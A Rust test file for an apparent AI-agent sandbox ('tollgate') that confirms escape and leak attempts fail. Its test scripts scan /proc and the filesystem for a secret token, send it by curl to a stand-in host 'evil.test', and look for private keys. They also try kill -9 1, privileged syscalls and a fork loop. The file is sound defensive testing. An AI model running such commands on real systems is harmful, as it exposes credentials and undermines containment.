//! What the agent sees and can do, tried from inside.

use std::io::Read;
use std::process::Stdio;

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use tollgate_tests::{Bench, Started};

const POLICY: &str = "
version: 1
network_policies:
  api:
    endpoints:
      - { host: api.test, port: 443, protocol: rest, access: read-only }
x-tollgate:
  credentials:
    TOKEN:
      bindings:
        - { host: api.test, port: 443, header: authorization }
";

const REAL: &str = "the-real-token-of-these-tests";

/// Runs a Python program inside; it must print exactly this.
#[track_caller]
fn check_python(program: &str, expected: &str) {
    let bench = Bench::new(POLICY);
    bench.write("work/try.py", program);
    let finished = bench.agent(&[], &["python3", "try.py"]);
    assert_eq!((finished.stdout.trim(), finished.code), (expected, 0), "{finished:?}");
}

#[test]
fn k11_no_secret_is_anywhere_in_the_agents_view() {
    let bench = Bench::new(POLICY);
    let secret = format!("TOKEN=cmd:printf {REAL}");
    let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; find / -xdev -type f -newer /etc/hostname -size -2M 2>/dev/null | \
                  xargs grep -l the-rea[l]-token 2>/dev/null; grep -r the-rea[l]-token . /run /tmp /home /root 2>/dev/null; echo end";
    let mut run = bench.run(&["--secret", &secret], &["sh", "-c", script]);
    run.env("OTHER_SECRET_OF_THE_CALLER", "the-real-token-in-an-unrelated-variable");
    let printed = tollgate_tests::finish(&mut run).succeeded();
    assert!(printed.ends_with("end\n"));
    assert!(!printed.contains("the-real-token"), "{printed}");
}

#[test]
fn k10_no_secret_is_in_anything_that_is_written() {
    let bench = Bench::new(POLICY);
    let secret = format!("TOKEN=cmd:printf {REAL}");
    let script = r#"curl -sS -H "Authorization: Bearer $TOKEN" https://api.test/echo; curl -sS -H "Authorization: $TOKEN" https://evil.test/"#;
    let mut run = bench.run(&["--secret", &secret], &["sh", "-c", script]);
    run.env("TOLLGATE_LOG", "trace");
    let finished = tollgate_tests::finish(&mut run);
    assert_eq!(bench.origin.arrived().len(), 1, "{finished:?}");
    let mut grep = std::process::Command::new("grep");
    let found = tollgate_tests::finish(grep.args(["-r", REAL]).arg(bench.path("home")));
    assert_eq!(found.stdout, "");
    assert!(!finished.stderr.contains(REAL) && !finished.stdout.contains(REAL));
}

/// The authority's certificate is inside; its key is in no file at all.
#[test]
fn b12_the_authoritys_key_is_nowhere() {
    let bench = Bench::new(POLICY);
    let script = "grep -c 'BEGIN CERTIFICATE' /run/tollgate/ca.pem; grep -rl 'PRIVATE KE[Y]' /run /tmp . 2>/dev/null; \
                  touch /run/tollgate/ca.pem 2>/dev/null || echo read-only";
    assert_eq!(bench.shell(&[], script).succeeded(), "1\nread-only\n");
    let found =
        tollgate_tests::finish(std::process::Command::new("grep").args(["-rl", "PRIVATE KEY"]).arg(bench.path("home")));
    assert_eq!(found.stdout, "");
}

#[test]
fn the_file_tree_is_masked() {
    let bench = Bench::new(POLICY);
    bench.write("elsewhere", "not for the agent");
    let script = format!(
        "cat {} 2>&1 | grep -c 'No such file'; ls /sys /boot /var/run/docker.sock 2>/dev/null; touch /usr/x /etc/x /x 2>/dev/null && echo written; \
         echo fine > in-work && echo fine > /tmp/in-tmp && echo fine > $HOME/in-home && cat in-work",
        bench.path("elsewhere").display()
    );
    assert_eq!(bench.shell(&[], &script).succeeded(), "1\nfine\n");
    assert_eq!(std::fs::read_to_string(bench.path("work/in-work")).expect("the work folder is the host's"), "fine\n");
}

#[test]
fn only_the_sandboxs_processes_exist() {
    let bench = Bench::new(POLICY);
    let printed =
        bench.shell(&[], "ls /proc | grep -c '^[0-9]'; cat /proc/1/environ 2>&1; kill -9 1; echo alive").succeeded();
    let count: u32 = printed.lines().next().and_then(|line| line.parse().ok()).expect("a count");
    assert!(count <= 5, "{printed}");
    assert!(printed.contains("Permission denied") && printed.ends_with("alive\n"), "{printed}");
}

#[test]
fn only_the_first_three_descriptors_are_open() {
    // The fourth is the folder that is being listed.
    check_python("import os\nprint(sorted(map(int, os.listdir('/proc/self/fd'))))", "[0, 1, 2, 3]");
}

#[test]
fn m3_socket_families() {
    check_python(
        "import socket, errno\n\
         def t(*a):\n  \
           try: socket.socket(*a); return 'open'\n  \
           except OSError as e: return e.errno in (errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT)\n\
         A = socket\n\
         print(t(A.AF_INET, A.SOCK_RAW, 1), t(A.AF_INET6, A.SOCK_RAW, 58), t(A.AF_INET, A.SOCK_DGRAM, 1), t(A.AF_PACKET, A.SOCK_RAW, 768), \
               t(A.AF_VSOCK, A.SOCK_STREAM), t(A.AF_ALG, A.SOCK_SEQPACKET), t(A.AF_NETLINK, A.SOCK_RAW, 4), t(A.AF_NETLINK, A.SOCK_RAW, 12), \
               t(A.AF_INET, A.SOCK_STREAM, 132), t(A.AF_INET, A.SOCK_STREAM, 262), t(44, A.SOCK_RAW))\n\
         print(t(A.AF_UNIX), t(A.AF_INET), t(A.AF_INET6, A.SOCK_DGRAM), t(A.AF_NETLINK, A.SOCK_RAW, 0))\n",
        "True True True True True True True True True True True\n\
         open open open open",
    );
}

/// System calls by their x86-64 numbers, with arguments that would work for a privileged caller.
#[cfg(target_arch = "x86_64")]
#[test]
fn m1_m2_m5_m6_refused_system_calls() {
    check_python(
        "import ctypes, errno\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         def t(*a):\n  \
           ctypes.set_errno(0)\n  \
           r = libc.syscall(*a)\n  \
           return 'done' if r >= 0 else errno.errorcode[ctypes.get_errno()]\n\
         calls = [('unshare', 272, 0x10000000), ('unshare net', 272, 0x40000000), ('clone', 56, 0x10000011, 0, 0, 0, 0), ('clone3', 435, 0, 0), \
           ('mount', 165, b'x', b'/tmp', b'tmpfs', 0, 0), ('umount2', 166, b'/tmp', 2), ('pivot_root', 155, b'/tmp', b'/tmp'), ('chroot', 161, b'/tmp'), \
           ('setns', 308, 0, 0), ('bpf', 321, 0, 0, 0), ('perf_event_open', 298, 0, 0, -1, -1, 0), ('ptrace', 101, 0, 0, 0, 0), \
           ('process_vm_readv', 310, 1, 0, 0, 0, 0, 0), ('io_uring_setup', 425, 8, 0), ('userfaultfd', 323, 0), ('keyctl', 250, 0, -3, 1), \
           ('add_key', 248, b'user', b'a', b'b', 1, -3), ('kexec_load', 246, 0, 0, 0, 0), ('init_module', 175, 0, 0, b''), ('personality', 135, 0x40000), \
           ('open_tree', 428, -100, b'/', 1), ('fsopen', 430, b'tmpfs', 0), ('name_to_handle_at', 303, -100, b'/', 0, 0, 0), ('pidfd_getfd', 438, 0, 0, 0)]\n\
         bad = [(c[0], t(*c[1:])) for c in calls]\n\
         print([b for b in bad if b[1] not in ('EPERM', 'ENOSYS')])\n\
         print(dict(bad)['clone3'])\n\
         import fcntl\n\
         try: fcntl.ioctl(0, 0x5412, b'x'); print('pushed')\n\
         except OSError as e: print(errno.errorcode[e.errno])\n",
        "[]\nENOSYS\nEPERM",
    );
}

#[cfg(target_arch = "x86_64")]
#[test]
fn m7_foreign_system_call_numbers_kill() {
    let bench = Bench::new(POLICY);
    bench.write("work/try.py", "import ctypes\nctypes.CDLL(None).syscall(0x40000000 + 39)\nprint('survived')\n");
    let finished = bench.agent(&[], &["python3", "try.py"]);
    assert_eq!((finished.code, finished.stdout.as_str()), (128 + Signal::SIGSYS as i32, ""), "{finished:?}");
}

#[test]
fn m12_processes_are_bounded() {
    check_python(
        "import os, errno, time\n\
         n = 0\n\
         try:\n  \
           while n < 2000:\n    \
             if os.fork() == 0: time.sleep(30); os._exit(0)\n    \
             n += 1\n  \
           print('unbounded')\n\
         except OSError as e: print(errno.errorcode[e.errno], n < 600)\n",
        "EAGAIN True",
    );
}

#[test]
fn ordinary_programs_work() {
    let bench = Bench::new(POLICY);
    let script = "bash -c 'echo bash'; python3 -c 'import os; print(os.cpu_count() > 0)'; node -e 'console.log(1 + 1)'; git --version | cut -c1-3; \
                  echo 'int main() { return 0; }' > a.c && cc a.c -o a && ./a && echo compiled; test -w /dev/null && head -c 4 /dev/urandom | wc -c; \
                  (sleep 0.01; echo child) & wait; python3 -c 'import pty, os; m, s = pty.openpty(); print(os.isatty(s))'";
    assert_eq!(bench.shell(&[], script).succeeded(), "bash\nTrue\n2\ngit\ncompiled\n4\nchild\nTrue\n");
}

#[test]
fn signals_reach_the_agent() {
    let bench = Bench::new(POLICY);
    let script = "trap 'echo terminated; exit 9' TERM; echo ready >&2; while :; do sleep 0.05; done";
    let mut running = Started::new(&mut bench.run(&[], &["sh", "-c", script]));
    running.wait_for("ready");
    let pid = Pid::from_raw(i32::try_from(running.child.id()).expect("a pid"));
    kill(pid, Signal::SIGTERM).expect("sent");
    let finished = running.end();
    assert_eq!((finished.code, finished.stdout.as_str()), (9, "terminated\n"));
}

/// The agent holds the write end of its stdout: the pipe ends only when every process of the sandbox is gone.
#[test]
fn m15_m16_nothing_survives_the_gate() {
    let bench = Bench::new(POLICY);
    let script = "setsid sleep 1000 & (trap '' TERM HUP INT; sleep 1000) & echo ready >&2; wait";
    let mut command = bench.run(&[], &["sh", "-c", script]);
    command.stdout(Stdio::piped());
    let mut running = Started::new(&mut command);
    running.wait_for("ready");
    running.child.kill().expect("killed");
    let mut rest = String::new();
    running.child.stdout.take().expect("piped").read_to_string(&mut rest).expect("the end");
    assert_eq!(rest, "");
}
